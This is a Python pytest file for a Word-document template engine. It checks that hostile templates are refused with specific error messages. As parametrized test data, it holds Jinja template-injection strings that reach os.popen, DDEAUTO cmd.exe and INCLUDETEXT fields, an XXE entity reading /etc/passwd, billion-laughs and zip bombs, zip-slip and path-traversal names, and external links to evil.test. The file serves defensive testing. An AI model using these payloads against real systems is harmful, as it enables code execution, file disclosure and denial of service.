"""The table of hostile input: a template that would run, fetch, flood or escape is refused, each with its sentence.

Each row reads: what somebody made, and what they are told. Nothing of it is run, and no document comes of it.
"""

from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from doc_templates.draft import file_name
from doc_templates.errors import TemplateError
from doc_templates.marks import note
from doc_templates.notes import add_footnotes
from doc_templates.render import render
from doc_templates.shelf import find, open_template
from kg.area.model import Area
from kg.errors import UnknownNameError
from tests.doc_templates.conftest import STATEMENT
from tests.doc_templates.making import field, part, replaced, saved, written

HOME = Path(__file__).parent.parent.parent / "doc_templates"
PLAIN = saved(written("A template"))
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS = "word/_rels/document.xml.rels"
MORE = "A template may only name fields, loop and choose: this one "
USED = "The template x cannot be used: it "


def says(*paragraphs: str) -> bytes:
    """A template that says something."""
    return saved(written(*paragraphs))


def header(text: str) -> bytes:
    document = written("A template")
    document.sections[0].header.paragraphs[0].text = text
    return saved(document)


def footnote(text: str) -> bytes:
    document = written(f"A template{note(0)}")
    add_footnotes(document, [text], {})
    return saved(document)


def titled(text: str) -> bytes:
    document = written("A template")
    document.core_properties.title = text
    return saved(document)


def related(kind: str, target: str) -> bytes:
    relation = (
        f'<Relationship Id="rIdX" Type="{RELATION}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return replaced(PLAIN, {RELS: part(PLAIN, RELS).replace("</Relationships>", relation)})


def does(instruction: str) -> bytes:
    document = Document()
    document.element.body.insert(0, parse_xml(f"<w:p {nsdecls('w')}>{field(instruction)}</w:p>"))
    return saved(document)


def declared(declaration: str) -> bytes:
    xml = part(PLAIN, "word/document.xml").replace("<w:document", f"{declaration}<w:document", 1)
    return replaced(PLAIN, {"word/document.xml": xml})


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "ha"}">' for i in range(10))

TEMPLATES: list[tuple[str, Callable[[], bytes], str]] = [
    (
        "runs a program through a global",
        lambda: says("{{ cycler.__init__.__globals__.os.popen('true').read() }}"),
        f"{MORE}holds a call",
    ),
    ("climbs from a text to its class", lambda: says("{{ ''.__class__ }}"), f"{MORE}asks for “__class__”"),
    ("climbs from a field to its class", lambda: says("{{ title.__class__.__mro__ }}"), f"{MORE}asks for “__mro__”"),
    ("climbs by a filter", lambda: says("{{ title|attr('__class__') }}"), f"{MORE}holds a filter"),
    ("climbs by brackets", lambda: says("{{ title['__class__'] }}"), f"{MORE}holds a getitem"),
    ("formats what it should not see", lambda: says("{{ '{0.__class__}'|format(title) }}"), f"{MORE}holds a filter"),
    ("formats by a method", lambda: says("{{ '{0.__class__}'.format(title) }}"), f"{MORE}holds a call"),
    (
        "counts without end",
        lambda: says("{%p for i in range(999999999) %}", "x", "{%p endfor %}"),
        f"{MORE}holds a call",
    ),
    ("makes a huge text", lambda: says("{{ 'x' * 999999999 }}"), f"{MORE}holds a mul"),
    ("makes a huge number", lambda: says("{{ 9**9**9 }}"), f"{MORE}holds a pow"),
    (
        "loops in loops",
        lambda: says("{%p for a in facts %}", "{%p for b in facts %}", "x", "{%p endfor %}", "{%p endfor %}"),
        "A template may not loop inside a loop: see the loop at line ",
    ),
    (
        "loops over what is no field",
        lambda: says("{%p for a in title.parts %}", "{%p endfor %}"),
        "A template may loop only over a field: see the loop at line ",
    ),
    ("takes in another file", lambda: says("{% include '/etc/passwd' %}"), f"{MORE}holds a include"),
    ("defines a macro", lambda: says("{% macro m() %}{% endmacro %}"), f"{MORE}holds a macro"),
    ("keeps a value", lambda: says("{% set x = title %}"), f"{MORE}holds a assign"),
    (
        "nests without end",
        lambda: says("{{ " + "(" * 9_000 + "1" + ")" * 9_000 + " }}"),
        "The template’s tags cannot be read: they are nested too deeply",
    ),
    ("does it in a header", lambda: header("{{ cycler() }}"), f"{MORE}holds a call"),
    ("does it in a footnote", lambda: footnote("{{ cycler() }}"), f"{MORE}holds a call"),
    ("does it in a property", lambda: titled("{{ cycler() }}"), f"{MORE}holds a call"),
    (
        "holds macros",
        lambda: replaced(PLAIN, {"word/vbaProject.bin": b"x"}),
        f"{USED}holds macros (word/vbaProject.bin)",
    ),
    (
        "has a template of its own elsewhere",
        lambda: related("attachedTemplate", "https://evil.test/t.dotm"),
        f"{USED}is attached to a template outside it (https://evil.test/t.dotm)",
    ),
    (
        "fetches a picture",
        lambda: related("image", "https://evil.test/p.png"),
        f"{USED}takes something in from outside (https://evil.test/p.png)",
    ),
    (
        "runs a program through a field",
        lambda: does(' DDEAUTO c:\\windows\\cmd.exe "/k calc" '),
        f"{USED}holds a field that runs or fetches something (DDEAUTO, in word/document.xml)",
    ),
    (
        "takes in a file through a field",
        lambda: does(' INCLUDETEXT "file:///etc/passwd" '),
        f"{USED}holds a field that runs or fetches something (INCLUDETEXT, in word/document.xml)",
    ),
    (
        "reads a file as an entity",
        lambda: declared('<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        f"{USED}holds a document type declaration (word/document.xml)",
    ),
    (
        "swells as entities",
        lambda: declared(f"<!DOCTYPE d [{LAUGHS}]>"),
        f"{USED}holds a document type declaration (word/document.xml)",
    ),
    (
        "swells when unpacked",
        lambda: replaced(PLAIN, {"word/big.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}),
        f"{USED}unpacks to more than 100 times its size (word/big.xml)",
    ),
    (
        "climbs out of its folder when unpacked",
        lambda: replaced(PLAIN, {"../../etc/cron.d/x": b"x"}),
        f"{USED}holds a part with an unsafe name (../../etc/cron.d/x)",
    ),
    ("is no Word file", lambda: b"#!/bin/sh", f"{USED}is not a Word file, or is damaged"),
]


@pytest.mark.parametrize(("made", "told"), [row[1:] for row in TEMPLATES], ids=[row[0] for row in TEMPLATES])
def test_a_template_that(made: Callable[[], bytes], told: str, tmp_path: Path) -> None:
    folder = tmp_path / "x"
    folder.mkdir()
    (folder / "template.docx").write_bytes(made())
    (folder / "template.toml").write_bytes((HOME / STATEMENT / "template.toml").read_bytes())
    with pytest.raises(TemplateError) as caught:
        open_template(folder)
    assert str(caught.value).startswith(told)


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\windows",
        "C:\\Users\\x",
        "/etc/passwd",
        "CON",
        "NUL",
        "housing-contribution-statement/../statement",
        "housing-contribution-statement\x00.docx",
        "x" * 300,
        "\u202etnemetats",
        "",
        ".",
    ],
)
def test_an_identifier_that_is_a_path_or_a_trick_names_no_template(name: str) -> None:
    with pytest.raises(UnknownNameError, match="There is no template called “"):
        find(name)


@pytest.mark.parametrize("text", ["{{ 7*7 }}", "{% for x in y %}", "{{ cycler.__init__ }}", "{_{ 7*7 }_}", "{# x #}"])
def test_what_people_write_is_never_a_template(text: str) -> None:
    document = written("{{ title }}")
    document.sections[0].header.paragraphs[0].text = "{{ title }}"
    filled = render(saved(document), {"title": f"{text}{note(0)}"})
    said = filled.paragraphs[0].text
    assert said == f"{text}{note(0)}"


def test_the_name_of_a_file_is_made_of_identifiers_alone(strathbrae: Area) -> None:
    hostile = strathbrae.area.model_copy(update={"name": "../../x\u202e\x00CON"})
    named = strathbrae.model_copy(update={"area": hostile})
    assert file_name(STATEMENT, named, strathbrae.as_at) == file_name(STATEMENT, strathbrae, strathbrae.as_at)
